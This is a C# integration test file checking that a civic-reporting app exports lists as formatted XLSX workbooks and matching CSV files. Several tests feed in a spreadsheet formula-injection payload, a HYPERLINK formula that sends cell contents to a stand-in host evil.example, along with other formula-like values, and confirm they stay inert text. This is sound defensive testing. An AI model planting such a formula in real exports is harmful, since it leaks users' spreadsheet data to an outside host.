using System.Globalization;
using System.Net;
using System.Net.Http.Json;
using CivicTrack.Engine.Csv;
using CivicTrack.Features.Organisation;
using CivicTrack.Features.Plans;
using CivicTrack.Tests.Infrastructure;
using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Spreadsheet;

namespace CivicTrack.Tests.Uploads;

/// <summary>Lists people hand over (late reports, tasks, a plan's targets, the audit log, units) download as styled workbooks —
/// numbers as numbers with their format, headers frozen and filtered — and as CSV with the same rows, formula-like text inert in both.</summary>
public abstract class ListExportTests(SharedApp shared)
{
    private static CancellationToken Ct => TestContext.Current.CancellationToken;
    private const string Form = CivicTrack.Demo.DemoReporting.MonthlyForm;
    private const string Evil = "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"Xem\")";

    private static async Task<byte[]> Download(HttpClient client, string url, string contentType)
    {
        var response = await client.GetAsync(url, Ct);
        Assert.True(response.StatusCode == HttpStatusCode.OK, $"{url}: {(int)response.StatusCode} {await response.Content.ReadAsStringAsync(Ct)}");
        Assert.StartsWith(contentType, response.Content.Headers.ContentType?.ToString(), StringComparison.Ordinal);
        Assert.Contains(DateTime.UtcNow.AddHours(7).ToString("yyyy-MM-dd", CultureInfo.InvariantCulture), response.Content.Headers.ContentDisposition?.ToString());
        return await response.Content.ReadAsByteArrayAsync(Ct);
    }

    private static Task<byte[]> Xlsx(HttpClient client, string url) =>
        Download(client, url, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet");

    private static List<CsvRecord> Csv(byte[] file)
    {
        Assert.True(CsvReader.TryDecodeUtf8(file, out var text, out _));
        return CsvReader.Parse(text);
    }

    private static async Task<List<CsvRecord>> CsvOf(HttpClient client, string url) => Csv(await Download(client, url, "text/csv"));

    [Fact]
    public async Task Late_reports_come_as_a_workbook_with_dates_and_counts_formatted_and_as_the_same_rows_in_csv()
    {
        var manager = await shared.App.SignedInAsync("manager@demo.local");
        // The units still missing are urged first: the list says when, and by whom.
        Assert.True((await manager.PostAsJsonAsync("/api/reports/urge", new CivicTrack.Features.Reporting.UrgeReportsInput(Form, "2025-10", null, "Đề nghị gửi báo cáo"),
            Json.Options, Ct)).IsSuccessStatusCode);
        var url = $"/api/reports/late?form={Form}&periods=2025-10&culture=en-GB";
        var book = SheetOf(await Xlsx(manager, url + "&format=xlsx"));
        book.AssertHeaderFrozenAndFiltered();
        Assert.Equal(["Unit code", "Unit", "Level", "Period", "Due date", "Status", "Days late", "Submitted at", "Last urged at", "Urged by"], book.Header);
        Assert.NotEmpty(book.Rows);
        var urged = book.Rows.Where(r => book.Text(r, "J") == "Sở Khoa học và Công nghệ").ToList();
        Assert.NotEmpty(urged);
        Assert.All(urged, r => book.AssertNumber(r, "I", "dd/mm/yyyy hh:mm"));
        foreach (var row in book.Rows)
        {
            book.AssertNumber(row, "E", "dd/mm/yyyy");
            book.AssertNumber(row, "G", "#,##0");
        }
        var csv = await CsvOf(manager, url + "&format=csv");
        Assert.Equal(book.Header, csv[0].Fields);
        Assert.Equal(book.Rows.Select(r => book.Text(r, "A")), csv.Skip(1).Select(r => r.Fields[0]));
        Assert.Equal(book.Rows.Select(r => book.Number(r, "G")), csv.Skip(1).Select(r => double.Parse(r.Fields[6], CultureInfo.InvariantCulture)));
    }

    [Fact]
    public async Task Tasks_come_with_progress_as_percent_and_formula_like_text_stays_text()
    {
        var manager = await shared.App.SignedInAsync("manager@demo.local");
        var title = Evil + " " + Guid.NewGuid().ToString("N")[..6];
        var created = await manager.PostAsJsonAsync("/api/tasks", new TaskInput(null, title, "08051", "+1 Cán bộ", null, new DateOnly(2025, 1, 1),
            new DateOnly(2025, 2, 1), "-2 sản phẩm", "@SUM(A1:A9)", "Chủ tịch UBND xã", 1, null), Json.Options, Ct);
        Assert.Equal(HttpStatusCode.Created, created.StatusCode);

        var book = SheetOf(await Xlsx(manager, "/api/tasks/export?unit=08051&format=xlsx"));
        book.AssertHeaderFrozenAndFiltered();
        Assert.Equal(13, book.Header.Count);
        var evil = Assert.Single(book.Rows, r => book.Text(r, "B") == title);
        book.AssertPlainText(evil, "B", title);
        book.AssertPlainText(evil, "D", "+1 Cán bộ");
        book.AssertPlainText(evil, "G", "@SUM(A1:A9)");
        book.AssertPlainText(evil, "H", "-2 sản phẩm");
        Assert.True(book.Number(evil, "L") > 300);
        foreach (var row in book.Rows)
        {
            book.AssertNumber(row, "K", "0.0%");
            book.AssertNumber(row, "L", "#,##0");
            Assert.InRange(book.Number(row, "K"), 0, 1);
        }

        var csv = await CsvOf(manager, "/api/tasks/export?unit=08051&format=csv");
        Assert.Equal(book.Header, csv[0].Fields);
        Assert.Equal(book.Rows.Count, csv.Count - 1);
        var line = Assert.Single(csv, r => r.Fields[1] == "'" + title);
        Assert.Equal(["'+1 Cán bộ", "'@SUM(A1:A9)", "'-2 sản phẩm"], [line.Fields[3], line.Fields[6], line.Fields[7]]);
        // Progress is 0..100 in the CSV and the same share in the workbook.
        Assert.Equal(book.Rows.Select(r => Math.Round(book.Number(r, "K") * 100, 6)),
            csv.Skip(1).Select(r => double.Parse(r.Fields[10], CultureInfo.InvariantCulture)));
        foreach (var r in csv.Skip(1))
            foreach (var field in r.Fields.Where((_, i) => i is not (10 or 11)))
                Assert.False(field.Length > 0 && CsvWriter.IsFormulaStart(field[0]), field);
    }

    [Fact]
    public async Task A_plans_targets_come_with_values_as_numbers_and_the_csv_lists_the_same_targets()
    {
        var manager = await shared.App.SignedInAsync("manager@demo.local");
        var plans = (await manager.GetFromJsonAsync<List<PlanDto>>("/api/plans?asOf=2025-06-30", Json.Options, Ct))!;
        var plan = Assert.Single(plans, p => p.Summary.Total == 43);
        var url = $"/api/plans/{plan.Id}/targets/export?asOf=2025-06-30";
        var book = SheetOf(await Xlsx(manager, url + "&format=xlsx"));
        book.AssertHeaderFrozenAndFiltered();
        Assert.Equal(10, book.Header.Count);
        Assert.Equal(43, book.Rows.Count);
        var valued = book.Rows.Where(r => book.Text(r, "E") is "≥" or "≤" or "=").ToList();
        Assert.NotEmpty(valued);
        foreach (var row in valued) book.AssertNumber(row, "F", "#,##0.0#");
        foreach (var row in book.Rows) book.AssertNumber(row, "J", "dd/mm/yyyy");

        var csv = await CsvOf(manager, url + "&format=csv");
        Assert.Equal(book.Header, csv[0].Fields);
        Assert.Equal(book.Rows.Select(r => book.Text(r, "A")), csv.Skip(1).Select(r => r.Fields[0]));
        Assert.Equal(valued.Select(r => book.Number(r, "F")),
            csv.Skip(1).Where(r => r.Fields[4] is "≥" or "≤" or "=").Select(r => double.Parse(r.Fields[5], CultureInfo.InvariantCulture)));

        var bad = await manager.GetAsync(url + "&format=pdf", Ct);
        Assert.Equal(HttpStatusCode.BadRequest, bad.StatusCode);
        Assert.Contains("\"format\"", await bad.Content.ReadAsStringAsync(Ct), StringComparison.Ordinal);
        Assert.Equal(HttpStatusCode.BadRequest, (await manager.GetAsync("/api/tasks/export?format=docx", Ct)).StatusCode);
        Assert.Equal(HttpStatusCode.BadRequest, (await manager.GetAsync($"/api/reports/late?form={Form}&format=ods", Ct)).StatusCode);
    }

    [Fact]
    public async Task The_audit_log_and_the_unit_list_come_as_workbooks_where_a_formula_named_unit_is_plain_text()
    {
        var admin = await shared.App.SignedInAsync("admin@demo.local");
        var code = $"08051-8{Random.Shared.Next(10, 99)}";
        var created = await admin.PostAsJsonAsync("/api/org-units", new OrgUnitInput(code, Evil, "Village", "08051", null, null, null), Json.Options, Ct);
        Assert.Equal(HttpStatusCode.Created, created.StatusCode);

        var audit = SheetOf(await Xlsx(admin, $"/api/audit?format=xlsx&entity={code}"));
        audit.AssertHeaderFrozenAndFiltered();
        var entry = Assert.Single(audit.Rows, r => audit.Text(r, "H") == code);
        audit.AssertNumber(entry, "A", "#,##0");
        audit.AssertNumber(entry, "B", "dd/mm/yyyy hh:mm");
        audit.AssertPlainText(entry, "F", Evil);
        var csv = await CsvOf(admin, $"/api/audit?format=csv&entity={code}");
        Assert.Equal(audit.Rows.Select(r => audit.Number(r, "A")), csv.Skip(1).Select(r => double.Parse(r.Fields[0], CultureInfo.InvariantCulture)));
        Assert.Equal(HttpStatusCode.BadRequest, (await admin.GetAsync("/api/audit?format=pdf", Ct)).StatusCode);

        var units = SheetOf(await Xlsx(admin, "/api/org-units/export?format=xlsx"), titled: false);
        units.AssertHeaderFrozenAndFiltered();
        Assert.Equal(["code", "name", "kind", "parent_code", "opened_on", "closed_on", "merged_into_code", "groups"], units.Header);
        units.AssertPlainText(Assert.Single(units.Rows, r => units.Text(r, "A") == code), "B", Evil);
    }

    private static XlsxSheet SheetOf(byte[] file, bool titled = true) => new(file, titled ? 2 : 1);

    /// <summary>The first worksheet of a workbook, read with the Open XML SDK as Excel would see it.</summary>
    private sealed class XlsxSheet
    {
        private readonly WorkbookPart _book;
        private readonly Worksheet _sheet;
        private readonly int _headerRow;

        public XlsxSheet(byte[] file, int headerRow)
        {
            var doc = SpreadsheetDocument.Open(new MemoryStream(file), false);
            _book = doc.WorkbookPart!;
            var first = _book.Workbook.Sheets!.Elements<DocumentFormat.OpenXml.Spreadsheet.Sheet>().First();
            _sheet = ((WorksheetPart)_book.GetPartById(first.Id!)).Worksheet;
            _headerRow = headerRow;
            // Rows and cells are read by position: a writer need not number them.
            var rows = _sheet.Descendants<Row>().ToList();
            Header = [.. rows[headerRow - 1].Elements<Cell>().Select(c => TextOf(c) ?? "")];
            Rows = [.. rows.Skip(headerRow).Where(r => r.Elements<Cell>().Count() >= Header.Count)];
        }

        public IReadOnlyList<string> Header { get; }
        public IReadOnlyList<Row> Rows { get; }

        public void AssertHeaderFrozenAndFiltered()
        {
            var pane = _sheet.Descendants<Pane>().Single();
            Assert.Equal(PaneStateValues.Frozen, pane.State?.Value);
            Assert.Equal(_headerRow, pane.VerticalSplit?.Value);
            if (Rows.Count > 0) Assert.StartsWith($"A{_headerRow}:", _sheet.Descendants<AutoFilter>().Single().Reference?.Value, StringComparison.Ordinal);
        }

        private static Cell CellAt(Row row, string column) => row.Elements<Cell>().ElementAt(column[0] - 'A');

        public string? Text(Row row, string column) => TextOf(CellAt(row, column));

        public double Number(Row row, string column) => double.Parse(CellAt(row, column).CellValue!.Text, CultureInfo.InvariantCulture);

        public void AssertNumber(Row row, string column, string format)
        {
            var cell = CellAt(row, column);
            Assert.True(cell.DataType is null || cell.DataType.Value == CellValues.Number, $"{column} is not a number");
            Assert.NotNull(cell.CellValue);
            Assert.Equal(format, FormatOf(cell));
        }

        /// <summary>A string cell holding the text as it was given: no formula, nothing prefixed.</summary>
        public void AssertPlainText(Row row, string column, string text)
        {
            var cell = CellAt(row, column);
            Assert.Null(cell.CellFormula);
            Assert.True(cell.DataType?.Value == CellValues.InlineString || cell.DataType?.Value == CellValues.SharedString || cell.DataType?.Value == CellValues.String);
            Assert.Equal(text, TextOf(cell));
        }

        private string? TextOf(Cell cell)
        {
            if (cell.DataType?.Value == CellValues.InlineString) return cell.InlineString?.InnerText;
            if (cell.DataType?.Value == CellValues.SharedString)
                return _book.SharedStringTablePart!.SharedStringTable.Elements<SharedStringItem>().ElementAt(int.Parse(cell.CellValue!.Text, CultureInfo.InvariantCulture)).InnerText;
            return cell.CellValue?.Text;
        }

        private string? FormatOf(Cell cell)
        {
            var styles = _book.WorkbookStylesPart!.Stylesheet;
            var format = styles.CellFormats!.Elements<CellFormat>().ElementAt((int)(cell.StyleIndex?.Value ?? 0));
            var id = format.NumberFormatId?.Value ?? 0;
            return styles.NumberingFormats?.Elements<NumberingFormat>().FirstOrDefault(n => n.NumberFormatId?.Value == id)?.FormatCode?.Value
                ?? $"builtin:{id}";
        }
    }
}

[Collection(FilesOnSqlite.Sqlite)]
public sealed class ListExportSqliteTests(SqliteDemoApp app) : ListExportTests(app);

[Collection(FilesOnPostgres.Postgres)]
public sealed class ListExportPostgresTests(PostgresDemoApp app) : ListExportTests(app);
